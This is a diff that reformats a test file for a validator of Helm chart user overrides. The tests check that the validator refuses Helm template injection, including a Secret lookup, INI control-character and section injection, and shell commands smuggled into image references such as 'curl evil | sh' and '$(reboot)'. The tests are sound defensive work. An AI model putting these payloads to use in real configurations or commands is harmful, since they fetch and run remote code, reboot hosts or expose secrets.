@@ -44,8 +44,16 @@ describe('Helm templates where the charts run tpl', () => {
   });
 
   test.each([
-    ['mariadb', { conf: { database: { config_override: '# {{ printf "INJECTED-%d" 42 }}' } } }, 'userOverrides.mariadb.conf.database.config_override: holds Helm template syntax "{{", and the chart mariadb renders conf.database.config_override with tpl'],
-    ['nova', { extraObjects: ['{{ lookup "v1" "Secret" "openstack" "x" }}'] }, 'userOverrides.nova.extraObjects[0]: holds Helm template syntax'],
+    [
+      'mariadb',
+      { conf: { database: { config_override: '# {{ printf "INJECTED-%d" 42 }}' } } },
+      'userOverrides.mariadb.conf.database.config_override: holds Helm template syntax "{{", and the chart mariadb renders conf.database.config_override with tpl',
+    ],
+    [
+      'nova',
+      { extraObjects: ['{{ lookup "v1" "Secret" "openstack" "x" }}'] },
+      'userOverrides.nova.extraObjects[0]: holds Helm template syntax',
+    ],
     ['nova', { conf: { security: 'ServerTokens {{ .Release.Name }}' } }, 'userOverrides.nova.conf.security: holds Helm template syntax'],
   ])('%s: a template at a tpl path is refused, naming the user value', (release, values, expected) => {
     expect(problems({ [release]: values })).toContain(expected);
@@ -66,18 +74,26 @@ describe('text that reaches an INI file', () => {
     ['ESC', '\u001b[31mred', 'holds the control character U+001B'],
     ['a C1 control', 'a\u0085b', 'holds the control character U+0085'],
   ])('%s in a nova.conf option is refused, naming the path', (_, value, expected) => {
-    expect(problems({ nova: { conf: { nova: { DEFAULT: { my_option: value } } } } })).toContain(`userOverrides.nova.conf.nova.DEFAULT.my_option: ${expected}`);
+    expect(problems({ nova: { conf: { nova: { DEFAULT: { my_option: value } } } } })).toContain(
+      `userOverrides.nova.conf.nova.DEFAULT.my_option: ${expected}`,
+    );
   });
 
   test.each([
-    ['a section name with "]"', { 'DEFAULT]\n[x': { a: 1 } }, 'userOverrides.nova.conf.nova.DEFAULT]\n[x: the key holds a control character or line break'],
+    [
+      'a section name with "]"',
+      { 'DEFAULT]\n[x': { a: 1 } },
+      'userOverrides.nova.conf.nova.DEFAULT]\n[x: the key holds a control character or line break',
+    ],
     ['an option name with "="', { DEFAULT: { 'a=b': 1 } }, 'userOverrides.nova.conf.nova.DEFAULT.a=b: the key holds "[", "]" or "="'],
   ])('%s is refused', (_, nova, expected) => {
     expect(problems({ nova: { conf: { nova } } })).toContain(expected);
   });
 
   test('a control character anywhere in user values is refused, not only in conf', () => {
-    expect(problems({ nova: { pod: { user: { nova: { uid: 'x\u0007' } } } } })).toContain('userOverrides.nova.pod.user.nova.uid: holds the control character U+0007');
+    expect(problems({ nova: { pod: { user: { nova: { uid: 'x\u0007' } } } } })).toContain(
+      'userOverrides.nova.pod.user.nova.uid: holds the control character U+0007',
+    );
   });
 });
 
@@ -97,22 +113,34 @@ describe('image references', () => {
   });
 
   test.each([
-    [{ images: { tags: { nova_api: 'docker.io/x/y:1; curl evil | sh' } } }, 'userOverrides.nova.images.tags.nova_api: "docker.io/x/y:1; curl evil | sh" is not an image reference'],
+    [
+      { images: { tags: { nova_api: 'docker.io/x/y:1; curl evil | sh' } } },
+      'userOverrides.nova.images.tags.nova_api: "docker.io/x/y:1; curl evil | sh" is not an image reference',
+    ],
     [{ images: { tags: { nova_api: 'not an image' } } }, 'is not an image reference'],
-    [{ pod: { image: { repository: 'x/$(reboot)', tag: '1' } } }, 'userOverrides.nova.pod.image.repository: "x/$(reboot)" is not an image repository'],
+    [
+      { pod: { image: { repository: 'x/$(reboot)', tag: '1' } } },
+      'userOverrides.nova.pod.image.repository: "x/$(reboot)" is not an image repository',
+    ],
     [{ pod: { image: { repository: 'x/y', tag: '1 2' } } }, 'userOverrides.nova.pod.image.tag: "1 2" is not an image tag'],
   ])('non-image text under an image key of user values is refused', (nova, expected) => {
     expect(problems({ nova })).toContain(expected);
   });
 
   test('the rook-ceph helper image of a profile must be an image reference', () => {
-    expect(() => validateProfile(aioSimplex({ images: { rookCephConfigHelper: 'x:1; reboot' } }), 'p.yaml')).toThrow('images.rookCephConfigHelper: expected an image reference registry/repository:tag');
+    expect(() => validateProfile(aioSimplex({ images: { rookCephConfigHelper: 'x:1; reboot' } }), 'p.yaml')).toThrow(
+      'images.rookCephConfigHelper: expected an image reference registry/repository:tag',
+    );
   });
 
   test('mirror commands refuse what is no image reference, and quote every word', () => {
-    expect(() => mirrorCommands(['docker.io/x/y:1;reboot'], 'mirror.local:5000')).toThrow('not image references (the OCI reference grammar registry/repository:tag@digest), so no commands are printed: "docker.io/x/y:1;reboot"');
+    expect(() => mirrorCommands(['docker.io/x/y:1;reboot'], 'mirror.local:5000')).toThrow(
+      'not image references (the OCI reference grammar registry/repository:tag@digest), so no commands are printed: "docker.io/x/y:1;reboot"',
+    );
     expect(() => mirrorCommands(['docker.io/x/y:1'], 'm;reboot')).toThrow('--mirror "m;reboot": expected a registry host[:port][/path]');
-    expect(mirrorCommands(['docker.io/x/y:1'], 'mirror.local:5000/')).toStrictEqual(['skopeo copy --all docker://docker.io/x/y:1 docker://mirror.local:5000/docker.io/x/y:1']);
+    expect(mirrorCommands(['docker.io/x/y:1'], 'mirror.local:5000/')).toStrictEqual([
+      'skopeo copy --all docker://docker.io/x/y:1 docker://mirror.local:5000/docker.io/x/y:1',
+    ]);
     expect(shellQuote("it's $(x)")).toBe(`'it'\\''s $(x)'`);
   });
 });
@@ -120,7 +148,11 @@ describe('image references', () => {
 describe('user values that null or retype what the chart reads', () => {
   test.each([
     ['null over a mapping', { conf: { nova: null } }, 'userOverrides.nova.conf.nova: null replaces the mapping the chart reads here'],
-    ['a string over a mapping', { conf: { nova: 'text' } }, 'userOverrides.nova.conf.nova: a string replaces the mapping the chart reads here'],
+    [
+      'a string over a mapping',
+      { conf: { nova: 'text' } },
+      'userOverrides.nova.conf.nova: a string replaces the mapping the chart reads here',
+    ],
     ['a list over a mapping', { endpoints: [] }, 'userOverrides.nova.endpoints: a list replaces the mapping'],
   ])('%s is refused, naming the user value', (_, nova, expected) => {
     expect(problems({ nova })).toContain(expected);
